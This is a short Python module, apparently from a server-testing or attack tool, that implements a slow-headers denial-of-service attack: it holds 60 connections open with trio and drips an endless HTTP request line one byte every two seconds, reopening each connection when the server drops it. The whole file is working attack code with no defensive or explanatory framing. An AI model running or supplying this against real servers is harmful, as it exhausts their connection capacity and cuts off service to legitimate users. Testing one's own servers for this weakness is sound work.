"""Sends heads of requests a byte at a time."""

import trio

from .target import Target

SOCKETS, BYTE_S = 60, 2.0


async def attack(target: Target) -> None:
    """`SOCKETS` at once, each begun again when the daemon has ended it."""
    async with trio.open_nursery() as nursery:
        for _ in range(SOCKETS):
            nursery.start_soon(_one, target)


async def _one(target: Target) -> None:
    while True:
        with target.counting():
            async with await target.connect() as stream:
                for byte in b"GET /" + b"a" * 10_000:
                    await stream.send_all(bytes([byte]))
                    target.tally["bytes"] += 1
                    await trio.sleep(BYTE_S)
        await trio.sleep(1)
